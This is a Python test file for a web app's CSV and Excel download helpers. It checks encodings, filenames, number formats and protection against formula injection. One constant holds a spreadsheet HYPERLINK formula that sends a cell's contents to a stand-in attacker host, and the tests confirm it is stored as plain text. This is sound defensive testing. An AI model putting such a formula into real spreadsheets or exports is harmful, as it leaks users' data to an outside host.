"""Downloads (core.web.tables, offered to modules as table_download / workbook_download): what a
finance officer opens in a spreadsheet program is the figures, exactly, and never a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from core.web.tables import Sheet, table_download, workbook_download

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_csv_is_utf8_with_a_bom_and_quotes_formulas_as_text() -> None:
    response = table_download("visits: May/2026", ["Name", "Amount", "Day"], [[HOSTILE, Decimal("12.50"), date(2026, 5, 1)], ["សុខ", None, None]], "csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="visits-May-2026.csv"'
    body = response.content
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [["Name", "Amount", "Day"], ["'" + HOSTILE, "12.50", "2026-05-01"], ["សុខ", "", ""]]


def test_a_workbook_keeps_numbers_dates_and_text_and_runs_no_formula() -> None:
    response = workbook_download("repairs", [
        Sheet("Repairs", ["Name", "USD", "KHR", "Day"], [[HOSTILE, Decimal("12.50"), Decimal("40000"), date(2026, 5, 1)], ["-5", None, 3, None]],
              above=[["Repairs", "Fresh Start"]], below=[["Total", Decimal("12.50"), Decimal("40000")]]),
        Sheet("By status/type?", ["Status", "Count"], [["done", 2]]),
    ])
    assert response.headers["Content-Disposition"] == 'attachment; filename="repairs.xlsx"'
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Repairs", "By status type "]
    sheet = book["Repairs"]
    assert sheet.freeze_panes == "A3"
    assert [c.value for c in sheet[1]][:2] == ["Repairs", "Fresh Start"] and sheet["A2"].font.b
    name, usd, khr, day = sheet[3]
    assert name.value == HOSTILE and name.data_type == "s"  # text, not a formula
    assert Decimal(str(usd.value)) == Decimal("12.5") and usd.number_format == "#,##0.00"
    assert khr.value == 40000 and khr.number_format == "#,##0"
    assert day.value.date() == date(2026, 5, 1) and day.number_format == "yyyy-mm-dd"
    assert sheet["A4"].value == "-5" and sheet["B4"].value is None
    assert sheet["A5"].value is None  # the empty line before the totals
    assert sheet["A6"].value == "Total" and sheet["A6"].font.b
